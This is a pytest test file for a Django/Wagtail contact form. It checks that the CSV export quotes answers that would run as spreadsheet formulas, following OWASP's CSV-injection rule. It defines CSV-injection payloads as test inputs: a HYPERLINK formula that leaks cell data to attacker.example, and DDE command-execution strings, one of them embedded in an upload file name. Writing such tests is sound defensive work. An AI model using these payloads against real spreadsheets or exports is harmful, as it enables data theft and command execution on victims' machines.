"""Answers that spreadsheet programs would run as formulas: the CSV export starts them with
a single quote (OWASP's rule for CSV injection), upload file names included; the listing
and the XLSX export (whose cells are text) keep them as they are."""

import io
import json

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.contrib.forms.models import FormSubmission

from contact.models import ContactUpload
from contact.submission import submit
from tests.contact.test_listing import SENT_AT
from tests.contact.test_stored_rows import HEADINGS, SHOWN_TIME, _csv, _listing, _write

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")'
DDE = "+cmd|' /C calc'!A0"
FILE_NAME = "@SUM(1+1)*cmd|' -c calc'!A0.pdf"


def _export(admin_client, page, kind: str) -> bytes:
    response = admin_client.get(f"/admin/forms/submissions/{page.pk}/?export={kind}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.fixture
def formulas(contact_form):
    result = submit(
        contact_form,
        {"name": HYPERLINK, "email": "ana@example.org", "message": DDE, "privacy_policy": "on"},
        {"cv": SimpleUploadedFile(FILE_NAME, PDF, content_type="application/pdf")},
        "192.0.2.1",
    )
    assert result.ok, result.errors
    FormSubmission.objects.filter(pk=result.submission_id).update(submit_time=SENT_AT)
    return contact_form


def test_the_csv_starts_every_formula_with_a_quote(admin_client, formulas):
    assert _export(admin_client, formulas, "csv").decode() == _csv(
        HEADINGS,
        [SHOWN_TIME, f"'{HYPERLINK}", "ana@example.org", f"'{DDE}", f"'{FILE_NAME}", "Sí"],
    )


def test_the_listing_and_the_xlsx_keep_the_answers_as_text(admin_client, formulas):
    answers = [HYPERLINK, "ana@example.org", DDE, FILE_NAME, "Sí"]
    # In the listing, the file's name is the link to its download.
    link = f'<a href="/admin/contact/uploads/{ContactUpload.objects.get().pk}/">{FILE_NAME}</a>'
    assert _listing(admin_client, formulas) == [[SHOWN_TIME, *answers[:3], link, answers[4]]]
    sheet = openpyxl.load_workbook(io.BytesIO(_export(admin_client, formulas, "xlsx"))).active
    [_headings, [_time, *cells]] = list(sheet.iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells] == [(a, "s") for a in answers]


@pytest.mark.parametrize(
    ("stored", "cell"),
    [
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        # An answer's surrounding blanks are never shown; what follows them is checked.
        ("\t=1+1", "'=1+1"),
        ("\r\n+1", "'+1"),
        # Several choices are one cell, their own blanks kept.
        (["\t=1", "b"], "'\t=1 y b"),
        (["\r=1", "b"], "'\r=1 y b"),
        ("a=1", "a=1"),
        ("1-2", "1-2"),
        ("'quoted", "'quoted"),
    ],
)
def test_a_cell_is_quoted_only_when_it_starts_a_formula(admin_client, contact_form, stored, cell):
    _write(contact_form, json.dumps({"name": stored}))
    assert _export(admin_client, contact_form, "csv").decode() == _csv(
        HEADINGS, [SHOWN_TIME, cell, "", "", "", ""]
    )
